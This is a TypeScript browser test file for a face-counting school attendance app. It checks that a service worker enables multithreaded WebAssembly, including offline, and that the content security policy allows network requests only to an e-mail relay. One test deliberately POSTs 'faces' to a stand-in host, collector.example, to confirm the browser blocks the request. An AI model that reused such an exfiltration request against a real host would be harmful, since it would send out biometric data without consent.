/**
 * Threads on any static host: the built app served by a plain file server (no COOP/COEP headers) is not
 * cross-origin isolated on its first load; its service worker then serves it with those headers, so from
 * the second load on it is, offline too, and the face engine runs WebAssembly on several threads. All of it
 * under the built page's content security policy, which refuses requests to any host but the relay's.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, makeMjpeg, serveBuiltAppAt } from '../helpers/chromium';
import { NPM_PHOTOS } from '../helpers/images';

let app: { url: string; close: () => Promise<void> };
let camera: string;

beforeAll(async () => {
  camera = makeMjpeg(NPM_PHOTOS.sample6.file, join(mkdtempSync(join(tmpdir(), 'cam-')), 'four-faces.mjpeg'));
  app = await serveBuiltAppAt('/school/attendance/');
});

afterAll(async () => {
  await app?.close();
});

async function cameraCheck(page: Page): Promise<{ threads: number; faces: string | null; note: string | null }> {
  await page.getByRole('button', { name: 'Start camera' }).click();
  await page.waitForFunction(
    () => Number(document.querySelector('[data-testid=face-count]')?.getAttribute('data-frames')) >= 2,
    null,
    { timeout: 240_000 },
  );
  const faces = await page.getByTestId('face-count').textContent();
  await page.getByRole('button', { name: 'Stop camera' }).click();
  return {
    threads: Number(await page.getByTestId('backend').getAttribute('data-threads')),
    faces: faces?.trim() ?? null,
    note: await page.getByTestId('backend-note').first().textContent(),
  };
}

describe('cross-origin isolation from the service worker', () => {
  it('isolates the app from its second load on, offline too, and runs the engine on several threads', async () => {
    const context = await launchChromium({ camera });
    try {
      const page = await context.newPage();
      const errors: string[] = [];
      page.on('pageerror', (e) => errors.push(e.message));
      await page.goto(`${app.url}#/settings`);
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
      await page.evaluate(async () => {
        await navigator.serviceWorker.ready;
      });
      const first = await cameraCheck(page);
      expect(first.threads).toBe(1);
      expect(first.note).toMatch(/one thread: this page is not cross-origin isolated yet/);

      await page.reload();
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      const cores = await page.evaluate(() => navigator.hardwareConcurrency);
      const second = await cameraCheck(page);
      expect(second.faces).toBe(String(NPM_PHOTOS.sample6.faces));
      expect(second.threads).toBe(Math.min(cores, 8));

      await context.setOffline(true);
      await page.reload();
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      const offline = await cameraCheck(page);
      expect(offline.faces).toBe(String(NPM_PHOTOS.sample6.faces));
      expect(offline.threads).toBe(Math.min(cores, 8));
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('runs under a content security policy that lets only the e-mail relay out', async () => {
    const context = await launchChromium({ camera });
    try {
      const page = await context.newPage();
      const violations: string[] = [];
      page.on('console', (m) => {
        if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
      });
      await page.goto(`${app.url}#/settings`);
      const policy = await page.evaluate(
        () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      );
      expect(policy).toMatch(/connect-src 'self' https:\/\/api\.emailjs\.com;/);
      // The engine (workers, WebAssembly, models) works under it: the camera check finds the four faces.
      expect((await cameraCheck(page)).faces).toBe(String(NPM_PHOTOS.sample6.faces));
      expect(violations).toEqual([]);
      // A request to any other host is refused by the browser itself, before any network.
      const refused = await page.evaluate(async () => {
        const blocked = new Promise<string>((done) =>
          document.addEventListener('securitypolicyviolation', (e) => done(`${e.violatedDirective} ${e.blockedURI}`), {
            once: true,
          }),
        );
        const fetched = await fetch('https://collector.example/upload', { method: 'POST', body: 'faces' }).then(
          () => 'sent',
          () => 'refused',
        );
        return `${fetched}: ${await blocked}`;
      });
      expect(refused).toBe('refused: connect-src https://collector.example/upload');
    } finally {
      await context.close();
    }
  });
});
